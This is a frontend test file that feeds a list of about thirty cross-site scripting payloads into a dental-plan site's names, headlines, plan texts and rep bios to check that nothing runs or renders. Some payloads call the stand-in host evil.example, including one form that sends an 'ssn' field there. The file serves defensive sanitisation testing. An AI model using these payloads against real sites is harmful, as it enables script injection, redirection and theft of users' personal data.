import { screen, waitFor } from '@testing-library/react'
import { expect, test, vi } from 'vitest'
import { landingInfo } from '../testing/landing.ts'
import { openScreen, prepareBrowser } from '../testing/open-screen.tsx'
import { planDetail } from '../testing/plans.ts'

/** Known script injection attempts. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src="https://evil.example/x.js"></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnError="alert(1)" />',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">press</a>',
  '<a href="&#106;avascript:alert(1)">press</a>',
  '<p onclick="alert(1)" style="position:fixed;inset:0">press</p>',
  '<p id="root" class="modal" tabindex="1" autofocus onfocus=alert(1)>press</p>',
  '<form action="https://evil.example"><input name="ssn"><button>Send</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>press</details>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<video><source onerror=alert(1)></video>',
  '<p><![CDATA[<script>alert(1)</script>]]></p>',
  '<!--><script>alert(1)</script-->',
  '</p></div></main><script>alert(1)</script>',
  '<strong/onmouseover=alert(1)>press</strong>',
]
const all = attacks.join('')

const alerted = vi.fn()
vi.stubGlobal('alert', alerted)

prepareBrowser({
  site: {
    name: `Harborview ${all}`,
    host: '',
    settings: { headline: all, claim_plans: all, claim_dentists: all, hours: all, address: all, phone: '3125550100' },
  },
  info_blocks: [{ title: all, text: all, plans: [{ plan_id: 1, plan_name: all }] }],
  categories: [{ code: all, plans: 1, carriers: 1, from_price: '1.00' }],
  menu: [all],
})

/** What an attack ran or added to the page: scripts, elements, attributes or URLs. */
const harmIn = (): string[] => {
  const drawn = document.querySelector('[data-screen]')
  if (drawn?.textContent.includes('Harborview') !== true) return ['nothing is drawn']
  const odd = drawn?.querySelectorAll(
    'script, iframe, object, embed, base, link, style, template, math, animate, video, [style*="fixed"], ' +
      'form[action], [srcdoc], [src^="http"], [onerror], [onload], [onclick], [onfocus], [onbegin], [ontoggle], ' +
      '[onmouseover]',
  )
  const links = [...(drawn?.querySelectorAll('a[href]') ?? [])].filter(
    (link) => !/^(\/(?!\/)|#|tel:|mailto:)/.test(link.getAttribute('href') ?? ''),
  )
  return [...(odd ?? []), ...links].map(({ outerHTML }) => outerHTML).concat(alerted.mock.calls.map(() => 'it ran'))
}

test('no attack runs from a site’s name, headline, claims, hours, address, categories or blocks [SF-3.16]', async () => {
  await openScreen('/home', {})
  await screen.findByRole('heading', { level: 1 })
  expect(harmIn()).toEqual([])
})

test.each([
  ['agent', 'agent_bio'],
  ['group', 'gweb_aboutus'],
] as const)('no attack runs from a rep’s or group’s description: %s [SF-2.15]', async (type, key) => {
  const hostile = landingInfo(all, { [key]: all, tagline: all, display_email: all, display_about_name: all })
  const { user } = await openScreen(
    '/404',
    { [`get-${type}-landing-page-info`]: hostile, [`get-${type}-about-page-info`]: hostile },
    { open_type: type, [`${type}_id`]: '7' },
  )
  const [about] = await screen.findAllByRole('button', { name: 'About' })
  if (about === undefined) throw new Error('nothing to press')
  await user.click(about)
  await waitFor(() => expect(document.querySelector('dialog .prose')).not.toBeNull())
  const inside = document.querySelector('dialog .prose')
  expect(inside?.querySelectorAll('p, strong').length).toBeGreaterThan(0)
  for (const element of inside?.querySelectorAll('*') ?? []) expect(element.attributes).toHaveLength(0)
  expect(harmIn()).toEqual([])
})

test('no attack runs from any text of a plan [SF-3.18]', async () => {
  const plan = planDetail(7101, all)
  const texts = Object.fromEntries(Object.keys(plan.plan_desc).map((key) => [key, all]))
  const hostile = { ...plan, plan_desc: { ...plan.plan_desc, ...texts } }
  await openScreen('/plan/7101', { 'get-plan-detail': { result: hostile }, '7101': { result: hostile } })
  await waitFor(() => expect(document.querySelector('.prose')).not.toBeNull())
  expect(harmIn()).toEqual([])
})
